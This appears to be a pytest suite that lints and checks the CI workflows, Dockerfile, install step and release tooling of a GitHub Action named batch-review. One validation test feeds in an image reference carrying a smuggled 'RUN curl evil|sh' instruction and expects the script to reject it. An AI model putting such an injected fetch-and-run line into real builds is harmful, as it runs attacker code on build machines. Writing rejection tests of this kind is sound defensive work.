"""The shipped files pass the linters GitHub users rely on, and the image's install step works.

There is no Docker engine here: the Dockerfile is linted with hadolint and its install script is run in a
fresh virtual environment, so a broken install step fails CI anyway. In CI (CI=true) a missing linter
is a failure, not a skip.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
import venv
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = sorted(str(p) for p in (ROOT / "examples" / "workflows").glob("*.yml"))
WORKFLOWS = EXAMPLES + sorted(str(p) for p in (ROOT / ".github" / "workflows").glob("*.yml"))
# Node 24 releases, by full commit (FACTS.md, checked in the actions' own repositories)
NODE24 = {"actions/checkout": "d23441a48e516b6c34aea4fa41551a30e30af803",  # v6.1.0
          "actions/upload-artifact": "b7c566a772e6b6bfb58ed0dc250532a479d7789f"}  # v6.0.0


def tool(name: str) -> str:
    found = shutil.which(name) or shutil.which(name, path=str(Path(sys.executable).parent))
    if found is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{name} is not installed (pip install -e '.[test]')")
        pytest.skip(f"{name} is not installed")
    return found


def run(*cmd: str) -> subprocess.CompletedProcess:
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300)


def test_there_are_two_example_workflows():
    assert [Path(p).name for p in EXAMPLES] == ["batch-review-poll.yml", "batch-review-submit.yml"]


def test_actionlint_with_shellcheck_on_every_run_script():
    proc = run(tool("actionlint"), "-shellcheck", tool("shellcheck"), *WORKFLOWS)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def steps_of(path: str) -> list[dict]:
    return [step for job in yaml.safe_load(Path(path).read_text())["jobs"].values() for step in job["steps"]]


def test_example_workflows_keep_what_was_written():
    """Upload steps run after a failed or timed-out step too; checkout and upload-artifact are the Node 24
    releases by full commit; checkout leaves no credentials behind (the action's one fetch brings its own)."""
    for path in EXAMPLES:
        steps = steps_of(path)
        uploads = [s for s in steps if s.get("uses", "").startswith("actions/upload-artifact@")]
        checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
        assert len(uploads) == 1 and len(checkouts) == 1, path
        assert uploads[0]["if"] == "${{ always() }}", path
        assert checkouts[0]["with"]["persist-credentials"] is False, path
        for step in uploads + checkouts:
            name, _, commit = step["uses"].partition("@")
            assert commit == NODE24[name], (path, step["uses"])


def test_zizmor_finds_nothing_even_pedantic():
    proc = run(tool("zizmor"), "--offline", "--persona", "pedantic", "--no-progress", *WORKFLOWS, "action.yml")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout + proc.stderr


def test_workflows_and_action_match_the_vendored_schemas():
    exe = tool("check-jsonschema")
    proc = run(exe, "--builtin-schema", "vendor.github-workflows", *WORKFLOWS)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = run(exe, "--builtin-schema", "vendor.github-actions", "action.yml")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_hadolint_reports_nothing_on_the_source_dockerfile():
    proc = run(tool("hadolint"), "--failure-threshold", "info", "Dockerfile")
    assert proc.returncode == 0 and proc.stdout.strip() == "", proc.stdout + proc.stderr


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> dict:
    """docker/install.sh run in a fresh virtual environment on a copy of the source, as the Dockerfile runs it."""
    tmp_path = tmp_path_factory.mktemp("image")
    env_dir = tmp_path / "venv"
    venv.EnvBuilder(with_pip=True).create(env_dir)
    env = {**os.environ, "PATH": f"{env_dir / 'bin'}:{os.environ['PATH']}", "VIRTUAL_ENV": str(env_dir)}
    env.pop("PYTHONPATH", None)
    source = tmp_path / "src"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(".git", ".venv*", "__pycache__", "*.egg-info",
                                                                    ".batch-review", "build", "bench"))
    proc = subprocess.run(["sh", "docker/install.sh", str(source)], cwd=source, env=env, capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return {"bin": env_dir / "bin", "env": env, "stdout": proc.stdout}


def test_the_images_install_step_works_in_a_fresh_environment(installed):
    assert installed["stdout"].strip().splitlines()[-1].startswith("batch-review ")


def release_py(*args: str, stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "docker" / "release.py"), *args], input=stdin,
                          capture_output=True, text=True, timeout=60)


def project_pin() -> str:
    return f"batch-review=={tomllib.loads((ROOT / 'pyproject.toml').read_text())['project']['version']}"


def test_the_installed_environment_holds_exactly_the_locked_packages(installed, tmp_path):
    """The release workflow runs this check on the image it built and again on the image it pulled back by
    digest; here it runs on the same install step in a fresh environment, and it notices a difference."""
    freeze = subprocess.run([str(installed["bin"] / "python"), "-m", "pip", "list", "--format=freeze",
                             "--disable-pip-version-check"], capture_output=True, text=True, check=True).stdout
    lock = ROOT / "requirements.lock"
    proc = release_py("check-packages", str(lock), project_pin(), stdin=freeze)
    count = len(re.findall(r"^[A-Za-z0-9][A-Za-z0-9._-]*==", lock.read_text(), re.M))
    assert proc.returncode == 0 and f"exactly the {count} locked packages" in proc.stdout, proc.stdout + proc.stderr
    bumped = tmp_path / "requirements.lock"
    bumped.write_text(lock.read_text().replace("\nunidiff==1.0.1 ", "\nunidiff==1.0.2 "))
    proc = release_py("check-packages", str(bumped), project_pin(), stdin=freeze)
    assert proc.returncode == 1 and proc.stdout == "::error::unidiff: requirements.lock has 1.0.2, the image 1.0.1\n"
    proc = release_py("check-packages", str(lock), project_pin(), stdin=freeze + "leftpad==1.0\n")
    assert proc.returncode == 1 and "leftpad==1.0 is in the image but not in requirements.lock" in proc.stdout
    proc = release_py("check-packages", str(lock), "batch-review==9.9.9", stdin=freeze)
    assert proc.returncode == 1 and "the release is 9.9.9" in proc.stdout


def test_the_entrypoint_runs_as_the_runner_calls_a_docker_action(installed, world, tmp_path):
    """The Dockerfile's ENTRYPOINT plus action.yml's args, from the installed console script, in the
    workspace, with only what the runner passes into the container: INPUT_<NAME> for every declared input
    (dashes kept), GITHUB_* and the file-command files. Submit, then poll, against the emulators."""
    from ..conftest import GITHUB_TOKEN, OPENAI_KEY, finding
    from ..emulators.github_emu import make_zip

    entrypoint = json.loads(re.search(r"^ENTRYPOINT (\[.*\])$", (ROOT / "Dockerfile").read_text(), re.M)[1])
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    argv = [str(installed["bin"] / entrypoint[0]), *entrypoint[1:], *action["runs"]["args"]]
    world.answer_with({"app.py": [finding("app.py", 2, title="Division by zero")]})

    def run_action(command: str) -> dict:
        inputs = {f"INPUT_{name.upper()}": str(spec.get("default", "")) for name, spec in action["inputs"].items()}
        inputs.update({"INPUT_COMMAND": command, "INPUT_OPENAI-API-KEY": OPENAI_KEY,
                       "INPUT_OPENAI-BASE-URL": world.openai.base_url, "INPUT_GITHUB-TOKEN": GITHUB_TOKEN})
        out = tmp_path / f"output-{command}"
        env = {"PATH": f"{installed['bin']}:/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path / "home"),
               **inputs, "GITHUB_ACTIONS": "true", "CI": "true", "GITHUB_EVENT_NAME": "schedule",
               "GITHUB_WORKSPACE": str(world.repo.path), "GITHUB_REPOSITORY": "acme/widgets",
               "GITHUB_API_URL": world.github.api_url, "GITHUB_SERVER_URL": "https://github.com",
               "GITHUB_RUN_ID": "99", "GITHUB_OUTPUT": str(out), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
               "BATCH_REVIEW_WRITE_INTERVAL": "0", "PYTHONUNBUFFERED": "1"}
        proc = subprocess.run(argv, cwd=world.repo.path, env=env, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        return dict(line.split("=", 1) for line in out.read_text().splitlines())

    (tmp_path / "home").mkdir()
    assert run_action("submit")["requests-submitted"] == "1"  # pull request 1: its two files in one request
    state = world.repo.path / ".batch-review"
    files = {str(p.relative_to(state)): p.read_bytes() for p in state.rglob("*") if p.is_file()}
    world.github.add_artifact("batch-review-99-1", make_zip(files))
    world.openai.complete_all()
    outputs = run_action("poll")
    assert outputs["reviews-posted"] == "1" and outputs["pending-batches"] == "0"
    assert len(world.github.reviews(1)) == 1 and world.github.artifacts == {}


def test_hadolint_reports_nothing_on_the_release_dockerfile(tmp_path):
    ref = "ghcr.io/batch-review/batch-review@sha256:" + "0123456789abcdef" * 4
    proc = release_py("dockerfile", ref, "v1.2.3")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    instructions = [line for line in proc.stdout.splitlines() if line and not line.startswith("#")]
    assert instructions == [f"FROM {ref}"]
    (tmp_path / "release.Dockerfile").write_text(proc.stdout)
    lint = run(tool("hadolint"), "--failure-threshold", "info", str(tmp_path / "release.Dockerfile"))
    assert lint.returncode == 0 and lint.stdout.strip() == "", lint.stdout + lint.stderr


@pytest.mark.parametrize(("args", "message"), [
    (("dockerfile", "ghcr.io/a/b:latest", "v1.2.3"), "is not ghcr.io/OWNER/NAME@sha256:<64 hex digits>"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 63, "v1.2.3"), "is not ghcr.io/OWNER/NAME@sha256"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 64 + "\nRUN curl evil|sh", "v1.2.3"), "is not ghcr.io/"),
    (("dockerfile", "ghcr.io/a/b@sha256:" + "0" * 64, "1.2.3"), "version '1.2.3' is not vMAJOR.MINOR.PATCH"),
    (("point-action", "action.yml", "../Dockerfile"), "is not a file under docker/"),
])
def test_release_inputs_that_cannot_be_used_are_one_line(args, message):
    proc = release_py(*args)
    assert proc.returncode == 2 and len(proc.stdout.splitlines()) == 1 and message in proc.stdout, proc.stdout


def test_the_release_commit_changes_only_the_image_the_action_runs(tmp_path):
    copy = tmp_path / "action.yml"
    copy.write_text((ROOT / "action.yml").read_text())
    assert release_py("point-action", str(copy), "docker/release.Dockerfile").returncode == 0
    before, after = yaml.safe_load((ROOT / "action.yml").read_text()), yaml.safe_load(copy.read_text())
    assert after["runs"] == {**before["runs"], "image": "docker/release.Dockerfile"}
    assert {k: v for k, v in after.items() if k != "runs"} == {k: v for k, v in before.items() if k != "runs"}


def test_the_release_workflow_publishes_what_the_source_dockerfile_builds():
    """Built from the source Dockerfile, checked against the lock before it is pushed and again pulled back
    by digest; the release's Dockerfile names that digest; every action is pinned by full commit."""
    wf = yaml.safe_load((ROOT / ".github" / "workflows" / "release.yml").read_text())
    assert wf[True] == {"workflow_dispatch": wf[True]["workflow_dispatch"]} and wf["permissions"] == {}
    (job,) = wf["jobs"].values()
    assert job["permissions"] == {"contents": "write", "packages": "write"}
    runs = [step.get("run", "") for step in job["steps"]]
    build = next(i for i, r in enumerate(runs) if "docker build" in r)
    push = next(i for i, r in enumerate(runs) if "docker push" in r)
    checks = [i for i, r in enumerate(runs) if "release.py check-packages requirements.lock" in r]
    generate = next(i for i, r in enumerate(runs) if "release.py dockerfile" in r)
    assert "--file Dockerfile" in runs[build] and build < checks[0] < push < checks[1] < generate
    assert 'docker pull "$IMAGE_REF"' in runs[checks[1]]
    for i in (checks[1], generate):
        assert job["steps"][i]["env"]["IMAGE_REF"] == "${{ steps.publish.outputs.image }}"
    assert job["steps"][push]["id"] == "publish" and "RepoDigests" in runs[push]
    for step in job["steps"]:
        if "uses" in step:
            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
def test_the_readme_shows_the_example_workflows_verbatim():
    readme = (ROOT / "README.md").read_text()
    for path in EXAMPLES:
        assert "```yaml\n" + Path(path).read_text() + "```" in readme, path
